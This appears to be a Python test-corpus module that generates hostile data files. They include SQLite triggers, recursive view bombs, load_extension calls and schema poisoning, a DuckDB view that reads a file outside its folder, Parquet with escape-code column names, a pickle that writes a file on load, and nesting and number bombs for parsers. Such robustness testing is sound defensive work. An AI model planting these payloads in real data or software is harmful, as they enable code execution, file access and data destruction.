"""Databases and columnar files that run code, reach for files, or lie about themselves."""

from __future__ import annotations

import pickle
import sqlite3

import duckdb
import pyarrow as pa
import pyarrow.parquet as pq
from attacks.corpus.attack import CELL, HEADER, ORDER, Place, attack, rows

_COLUMNS = "parcel_id, weight_kg, distance_km, depot, late"


def _sqlite(place: Place, *statements: str) -> None:
    connection = sqlite3.connect(place.data / "parcels.sqlite")
    connection.execute(f"CREATE TABLE parcels ({_COLUMNS})")
    connection.executemany("INSERT INTO parcels VALUES (?, ?, ?, ?, ?)", rows())
    for statement in statements:
        connection.execute(statement)
    connection.commit()
    connection.close()


@attack()
def triggers_and_views(place: Place) -> None:
    _sqlite(
        place,
        "CREATE TRIGGER t AFTER INSERT ON parcels BEGIN DELETE FROM parcels; END",
        "CREATE VIEW bomb AS WITH RECURSIVE c(n) AS (SELECT 1 UNION ALL SELECT n+1 FROM c) SELECT n FROM c",
        "CREATE VIEW loads AS SELECT load_extension('/tmp/zqx.so')",
        "CREATE TABLE made (a, b GENERATED ALWAYS AS (a || hex(zeroblob(1000))) VIRTUAL)",
        "INSERT INTO made (a) VALUES (1), (2), (3)",
    )


@attack()
def a_poisoned_schema(place: Place) -> None:
    _sqlite(
        place,
        "PRAGMA writable_schema = ON",
        "INSERT INTO sqlite_master VALUES ('table', 'v', 'v', 0, 'CREATE VIRTUAL TABLE v USING fts5(x)')",
    )


@attack(learnable=False)
def a_cut_database(place: Place) -> None:
    _sqlite(place)
    path = place.data / "parcels.sqlite"
    content = bytearray(path.read_bytes())
    content[100:140] = b"\xff" * 40
    path.write_bytes(bytes(content))


@attack(learnable=False)
def a_view_that_reads_files(place: Place) -> None:
    connection = duckdb.connect(str(place.data / "parcels.duckdb"))
    connection.execute(f"CREATE VIEW stolen AS SELECT * FROM read_csv('{place.outside}/canary.csv')")
    connection.close()


@attack()
def names_and_notes_of_a_parquet_file(place: Place) -> None:
    columns = dict(zip(HEADER, map(list, zip(*rows(), strict=True)), strict=True))
    columns |= {ORDER: [1] * 60, "\u202egk\x1b[2J": [2] * 60}
    table = pa.table(columns).replace_schema_metadata({"pandas": CELL, "order": CELL})
    pq.write_table(table, place.data / "parcels.parquet")


@attack()
def pickles(place: Place) -> None:
    place.table()
    for name in ("model.pkl", "table.csv", "frame.npy"):
        place.write(name if name != "table.csv" else "pickled.csv", pickle.dumps(_Touches(str(place.outside))))


class _Touches:
    """Writes a file when it is unpickled."""

    def __init__(self, folder: str) -> None:
        self.folder = folder

    def __reduce__(self):
        return (open, (f"{self.folder}/owned", "w"))


@attack(learnable=False)
def json_without_bottom(place: Place) -> None:
    place.write("parcels.json", "[" * 200_000 + "]" * 200_000)


@attack()
def numbers_without_end(place: Place) -> None:
    place.write("big.json", '[{"a": ' + "9" * 100_000 + '}, {"a": 1e999999}]')
    place.write("more.csv", "a,b\n" + f"{'9' * 5_000},1e9999\n" * 5)
    place.table()
